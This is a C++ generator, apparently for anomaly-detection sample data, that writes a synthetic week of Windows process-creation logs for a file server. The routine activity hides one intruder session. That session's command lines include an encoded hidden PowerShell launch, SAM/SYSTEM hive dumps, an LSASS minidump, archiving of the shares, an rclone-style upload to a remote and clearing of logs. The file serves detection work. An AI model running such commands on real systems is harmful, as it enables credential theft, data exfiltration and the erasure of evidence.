// Process-creation events of the file server FS-02 over a week: agents and scheduled tasks of the system in an endless
// round, backup and web service accounts, administrators with their habits, and one session that runs what nobody runs.

#include "resources/sample_logs/log_text.h"
#include "resources/sample_logs/random.h"

#include <algorithm>
#include <array>
#include <vector>

namespace anomalyst::samples
{

namespace
{

struct Program {
    std::string_view path;
    std::string_view parent;
    std::string_view arguments; // "#": a number, "@": a hexadecimal id
};

struct Account {
    std::string_view name;
    std::string logon;
};

struct ProcessEvent {
    std::int64_t time = 0;
    int milliseconds = 0;
    std::string row;
};

constexpr std::string_view kServices = R"(C:\Windows\System32\services.exe)";
constexpr std::string_view kSvchost = R"(C:\Windows\System32\svchost.exe)";
constexpr std::string_view kExplorer = R"(C:\Windows\explorer.exe)";
constexpr std::string_view kCmd = R"(C:\Windows\System32\cmd.exe)";
constexpr std::string_view kAgent = R"(C:\Program Files\Halden Monitor\agent.exe)";

// What the system does all day: the first ones most often.
constexpr std::array<Program, 18> kSystemRound = {{
    {R"(C:\Windows\System32\conhost.exe)", kAgent, "0xffffffff -ForceV1"},
    {R"(C:\Windows\System32\cmd.exe)", kAgent, R"(/c "C:\Program Files\Halden Monitor\collect.cmd" disk)"},
    {R"(C:\Windows\System32\cscript.exe)", kAgent, R"(/nologo "C:\Program Files\Halden Monitor\perf.vbs")"},
    {R"(C:\Windows\System32\wbem\WmiPrvSE.exe)", kSvchost, "-secured -Embedding"},
    {R"(C:\Program Files\Halden Monitor\agent.exe)", kServices, "-mode:collect -id:@"},
    {R"(C:\Windows\System32\taskhostw.exe)", kSvchost, "SYSTEM"},
    {R"(C:\Windows\System32\svchost.exe)", kServices, "-k netsvcs -p -s Schedule"},
    {R"(C:\Windows\System32\schtasks.exe)", kCmd, R"(/query /fo csv /tn "\Halden\Inventory")"},
    {R"(C:\Windows\System32\wevtutil.exe)", kAgent, "qe Security /c:# /rd:true /f:text"},
    {R"(C:\Windows\System32\SearchIndexer.exe)", kServices, "/Embedding"},
    {R"(C:\Windows\System32\SearchProtocolHost.exe)", R"(C:\Windows\System32\SearchIndexer.exe)",
     "Global\\UsGthrFltPipeMssGthrPipe#"},
    {R"(C:\Windows\System32\tasklist.exe)", kAgent, "/svc /fo csv"},
    {R"(C:\Windows\System32\ipconfig.exe)", kAgent, "/all"},
    {R"(C:\Windows\System32\MpCmdRun.exe)", kSvchost, "SignatureUpdate -ScheduleJob"},
    {R"(C:\Windows\System32\backgroundTaskHost.exe)", kSvchost, "-ServerName:App.AppX@.mca"},
    {R"(C:\Windows\System32\dllhost.exe)", kSvchost, "/Processid:{@-0000-4000-8000}"},
    {R"(C:\Windows\System32\vssvc.exe)", kServices, ""},
    {R"(C:\Windows\System32\TiWorker.exe)", kSvchost, "-Embedding"},
}};

constexpr std::array<Program, 4> kBackupRound = {{
    {R"(C:\Program Files\Tidewater Backup\tbcopy.exe)", R"(C:\Program Files\Tidewater Backup\tbsvc.exe)",
     R"(--job nightly --source D:\Shares --slot #)"},
    {R"(C:\Program Files\Tidewater Backup\tbverify.exe)", R"(C:\Program Files\Tidewater Backup\tbsvc.exe)",
     "--job nightly --crc"},
    {R"(C:\Windows\System32\conhost.exe)", R"(C:\Program Files\Tidewater Backup\tbcopy.exe)", "0xffffffff -ForceV1"},
    {R"(C:\Windows\System32\robocopy.exe)", R"(C:\Program Files\Tidewater Backup\tbsvc.exe)",
     R"(D:\Shares E:\Mirror /MIR /R:1 /W:1 /NP)"},
}};

constexpr std::array<Program, 14> kAdministratorHabits = {{
    {R"(C:\Windows\System32\mmc.exe)", kExplorer, R"("C:\Windows\System32\compmgmt.msc" /s)"},
    {R"(C:\Windows\System32\cmd.exe)", kExplorer, ""},
    {R"(C:\Windows\System32\conhost.exe)", kCmd, "0xffffffff -ForceV1"},
    {R"(C:\Windows\System32\ping.exe)", kCmd, "-n 4 dc-01"},
    {R"(C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe)", kExplorer, ""},
    {R"(C:\Windows\System32\eventvwr.exe)", kExplorer, ""},
    {R"(C:\Windows\System32\Taskmgr.exe)", kExplorer, "/4"},
    {R"(C:\Windows\System32\notepad.exe)", kExplorer, R"(D:\Admin\notes.txt)"},
    {R"(C:\Windows\System32\gpupdate.exe)", kCmd, "/force"},
    {R"(C:\Windows\System32\ipconfig.exe)", kCmd, "/all"},
    {R"(C:\Windows\System32\hostname.exe)", kCmd, ""},
    {R"(C:\Windows\System32\net.exe)", kCmd, "use"},
    {R"(C:\Windows\System32\whoami.exe)", kCmd, ""},
    {R"(C:\Windows\System32\ServerManager.exe)", kExplorer, ""},
}};

// The session of the night, in order.
constexpr std::array<Program, 24> kIntruderSteps = {{
    {R"(C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe)", R"(C:\Windows\System32\wsmprovhost.exe)",
     "-nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA="},
    {R"(C:\Windows\System32\conhost.exe)", R"(C:\Windows\System32\wsmprovhost.exe)", "0xffffffff -ForceV1"},
    {R"(C:\Windows\System32\whoami.exe)", kCmd, "/all /fo list"},
    {R"(C:\Windows\System32\nltest.exe)", kCmd, "/domain_trusts /all_trusts"},
    {R"(C:\Windows\System32\net.exe)", kCmd, R"(group "Domain Admins" /domain)"},
    {R"(C:\Windows\System32\net1.exe)", R"(C:\Windows\System32\net.exe)", R"(group "Domain Admins" /domain)"},
    {R"(C:\Windows\System32\quser.exe)", kCmd, "/server:dc-01"},
    {R"(C:\Windows\System32\reg.exe)", kCmd, R"(save HKLM\SAM C:\ProgramData\s.tmp /y)"},
    {R"(C:\Windows\System32\reg.exe)", kCmd, R"(save HKLM\SYSTEM C:\ProgramData\y.tmp /y)"},
    {R"(C:\Windows\System32\rundll32.exe)", kCmd,
     R"(C:\Windows\System32\comsvcs.dll, MiniDump 652 C:\ProgramData\l.dmp full)"},
    {R"(C:\Windows\System32\vssadmin.exe)", kCmd, "list shadows"},
    {R"(C:\ProgramData\svc\7z.exe)", kCmd,
     R"(a -t7z -mx1 -v2g -pH4ld3n C:\ProgramData\svc\a.7z D:\Shares\Finance D:\Shares\Board -xr!*.iso)"},
    {R"(C:\ProgramData\svc\7z.exe)", kCmd,
     R"(a -t7z -mx1 -v2g -pH4ld3n C:\ProgramData\svc\b.7z D:\Shares\Engineering)"},
    {R"(C:\ProgramData\svc\7z.exe)", kCmd, R"(t C:\ProgramData\svc\a.7z.001 -pH4ld3n)"},
    {R"(C:\Windows\System32\certutil.exe)", kCmd, R"(-hashfile C:\ProgramData\svc\a.7z.001 SHA256)"},
    {R"(C:\ProgramData\svc\rc.exe)", kCmd,
     R"(--config C:\ProgramData\svc\rc.conf copy C:\ProgramData\svc remote:fs02 --transfers 8 --bwlimit 0)"},
    {R"(C:\Windows\System32\conhost.exe)", R"(C:\ProgramData\svc\rc.exe)", "0xffffffff -ForceV1"},
    {R"(C:\ProgramData\svc\rc.exe)", kCmd, R"(--config C:\ProgramData\svc\rc.conf lsf remote:fs02)"},
    {R"(C:\Windows\System32\netsh.exe)", kCmd, "interface portproxy show all"},
    {R"(C:\Windows\System32\cipher.exe)", kCmd, R"(/w:C:\ProgramData\svc)"},
    {R"(C:\Windows\System32\wevtutil.exe)", kCmd, "cl Security"},
    {R"(C:\Windows\System32\fsutil.exe)", kCmd, R"(usn deletejournal /D C:)"},
    {R"(C:\Windows\System32\schtasks.exe)", kCmd, R"(/delete /tn "\Halden\Update" /f)"},
    {R"(C:\Windows\System32\logoff.exe)", kCmd, ""},
}};

class ProcessStream
{
public:
    explicit ProcessStream(Random &random)
        : m_random(random)
    {
    }

    void add(std::int64_t time, const Account &who, const Program &program)
    {
        ProcessEvent event{.time = time, .milliseconds = static_cast<int>(m_random.between(0, 999)), .row = {}};
        const bool system = who.logon == "0x3e7";
        const std::string account = (system ? "WORKGROUP\\" : "HALDEN\\") + std::string(who.name);
        std::string command = "\"" + std::string(program.path) + "\"";
        if (!program.arguments.empty())
            command += " " + filledIn(program.arguments);
        event.row = csvRow(
            {marchTime(time, event.milliseconds), "FS-02", account, "4688", who.name, system ? "WORKGROUP" : "HALDEN",
             who.logon, hex(static_cast<std::uint64_t>(m_random.between(256, 16000)) * 4), program.path,
             system ? "%%1936" : "%%1937", hex(static_cast<std::uint64_t>(m_random.between(256, 16000)) * 4), command,
             program.parent});
        m_events.push_back(std::move(event));
    }

    std::size_t size() const { return m_events.size(); }
    std::vector<ProcessEvent> sorted()
    {
        std::ranges::stable_sort(m_events, {},
                                 [](const ProcessEvent &event) { return event.time * 1000 + event.milliseconds; });
        return std::move(m_events);
    }

private:
    std::string filledIn(std::string_view pattern)
    {
        std::string text;
        for (const char c : pattern) {
            if (c == '#')
                text += std::to_string(m_random.between(10, 99));
            else if (c == '@')
                text += hex(static_cast<std::uint64_t>(m_random.between(0x10000000, 0x7fffffff))).substr(2);
            else
                text += c;
        }
        return text;
    }

    Random &m_random;
    std::vector<ProcessEvent> m_events;
};

void addAdministratorSession(Random &random, ProcessStream &stream, std::string_view name, std::int64_t begin)
{
    const Account who{name, hex(static_cast<std::uint64_t>(random.between(0x200000, 0xffffff)))};
    const int count = static_cast<int>(random.between(8, 40));
    std::int64_t time = begin;
    for (int i = 0; i < count; ++i) {
        stream.add(time, who, random.pickEarly(std::span<const Program>(kAdministratorHabits)));
        time += random.between(2, 240);
    }
}

} // namespace

std::string processLog()
{
    Random random(20240314);
    ProcessStream stream(random);
    std::int64_t time = march(19, 1, 12, 40);
    for (const Program &program : kIntruderSteps) {
        stream.add(time, {"m.keller", "0x8f41c2"}, program);
        time += random.between(40, 560);
    }
    constexpr std::array<std::string_view, 6> administrators = {"k.schmidt",   "m.keller", "e.novak",
                                                                "a.lindqvist", "h.rossi",  "g.hansen"};
    for (int day = 14; day <= 20; ++day) {
        const std::int64_t sessions = isWeekend(march(day, 0)) ? 1 : random.between(5, 8);
        for (std::int64_t i = 0; i < sessions; ++i)
            addAdministratorSession(random, stream, random.pickEarly(std::span<const std::string_view>(administrators)),
                                    march(day, 7) + random.between(0, 10 * kHour));
        for (std::int64_t i = 0; i < 110; ++i)
            stream.add(march(day, 22) + i * 40 + random.between(0, 30), {"svc-backup", "0x5c1a7e"},
                       random.pick(std::span<const Program>(kBackupRound)));
    }
    while (stream.size() < 20000)
        stream.add(march(14, 0) + random.between(0, 7 * kDay - 1), {"FS-02$", "0x3e7"},
                   random.pickEarly(std::span<const Program>(kSystemRound)));

    std::string text = csvRow({"TimeGenerated", "Computer", "Account", "EventID", "SubjectUserName",
                               "SubjectDomainName", "SubjectLogonId", "NewProcessId", "NewProcessName",
                               "TokenElevationType", "ProcessId", "CommandLine", "ParentProcessName"});
    for (const ProcessEvent &event : stream.sorted())
        text += event.row;
    return text;
}

} // namespace anomalyst::samples
